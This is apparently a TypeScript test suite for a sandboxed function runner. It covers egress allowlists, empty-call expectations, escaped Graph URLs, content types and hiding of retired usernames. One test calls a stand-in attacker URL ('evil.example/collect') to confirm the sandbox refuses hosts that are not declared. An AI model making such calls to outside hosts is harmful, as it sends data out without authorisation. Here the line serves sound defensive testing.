// The claims of contract.md's "Test semantics" that no other suite pins, through the real sandbox: egress
// holds in tests, `expect.calls: []` means no request, content types, literal URLs with an escaped UPN,
// and findUsers never returning a retired username.

import { afterAll, describe, expect, it } from 'vitest';
import { runFixtures, type ExpectedCall, type FixtureTest } from '../../core/fixtures/index.ts';
import { createInProcessRunner } from '../../sandbox/index.ts';
import { bundleFunction, functionSource } from '../sandbox/helpers/bundle-function.ts';
import { fixture } from './fixture-builders.ts';

const runner = createInProcessRunner();
afterAll(() => runner.close());

async function runOne(body: string, test: FixtureTest) {
  const bundled = await bundleFunction(functionSource({ run: body, egress: ['graph.microsoft.com'] }));
  const report = await runFixtures({ ...bundled, tests: [test], runner });
  const [result] = report.results;
  if (result === undefined) throw new Error('no result');
  return result;
}

const GRAPH = 'https://graph.microsoft.com/v1.0/users/';

describe('test semantics (contract.md)', () => {
  it('egress holds in tests: a host not declared throws in the function and is not recorded', async () => {
    const refused = fixture({ expect: { error: 'is not in egress', calls: [] } });
    const result = await runOne("await ctx.http.fetch('https://evil.example/collect'); return {};", refused);
    expect(result).toMatchObject({ passed: true, calls: [] });
  });

  it('expect.calls: [] fails a function that made a request', async () => {
    const test = fixture({ http: [{ request: { method: 'GET', url: `${GRAPH}a` }, response: { status: 200 } }], expect: { calls: [] } });
    const result = await runOne(`await ctx.http.fetch('${GRAPH}a'); return {};`, test);
    expect(result.failures).toEqual(['calls: expected 0, got 1', `calls[0]: unexpected GET ${GRAPH}a`]);
  });

  it('matches URLs literally after WHATWG parsing, with a guest UPN escaped for a Graph path', async () => {
    const upn = 'ana_x.com#EXT#@t.onmicrosoft.com';
    const url = `${GRAPH}ana_x.com%23EXT%23@t.onmicrosoft.com`;
    const body = `const segment = encodeURIComponent(${JSON.stringify(upn)}).replace(/%40/g, '@');
      const response = await ctx.http.fetch('https://GRAPH.microsoft.com/v1.0/users/' + segment);
      return { status: response.status };`;
    const http = [{ request: { method: 'GET', url }, response: { status: 204 } }];
    const result = await runOne(body, fixture({ http, expect: { output: { status: 204 }, calls: [{ method: 'GET', url }] } }));
    expect(result.failures).toEqual([]);
  });

  it('gives JSON and form bodies their content types, and JSON responses theirs', async () => {
    const body = `const json = await ctx.http.fetch('${GRAPH}a', { method: 'POST', body: { a: 1 } });
      await ctx.http.fetch('${GRAPH}b', { method: 'POST', body: new URLSearchParams({ b: '2' }) });
      const text = await ctx.http.fetch('${GRAPH}c');
      return { json: json.headers['content-type'] ?? null, text: text.headers['content-type'] ?? null, custom: json.headers['x-trace'] ?? null };`;
    const http = [
      { request: { method: 'POST', url: `${GRAPH}a` }, response: { status: 200, body: { ok: true }, headers: { 'X-Trace': 't1' } } },
      { request: { method: 'POST', url: `${GRAPH}b` }, response: { status: 200 } },
      { request: { method: 'GET', url: `${GRAPH}c` }, response: { status: 200, body: 'plain' } },
    ];
    const calls: ExpectedCall[] = [
      { method: 'POST', url: `${GRAPH}a`, headers: { 'Content-Type': 'application/json' }, body: { a: 1 } },
      { method: 'POST', url: `${GRAPH}b`, headers: { 'content-type': 'application/x-www-form-urlencoded;charset=UTF-8' }, body: { b: '2' } },
      { method: 'GET', url: `${GRAPH}c` },
    ];
    const result = await runOne(body, fixture({ http, expect: { outputExact: { json: 'application/json', text: null, custom: 't1' }, calls } }));
    expect(result.failures).toEqual([]);
  });

  it('findUsers never returns a retired username, while isUsernameTaken is true for it', async () => {
    const body = `return { found: (await ctx.directory.findUsers({ username: 'jsmith' })).length, taken: await ctx.directory.isUsernameTaken('JSmith') };`;
    const result = await runOne(body, fixture({ directory: { retiredUsernames: ['jsmith'] }, expect: { outputExact: { found: 0, taken: true } } }));
    expect(result.failures).toEqual([]);
  });
});
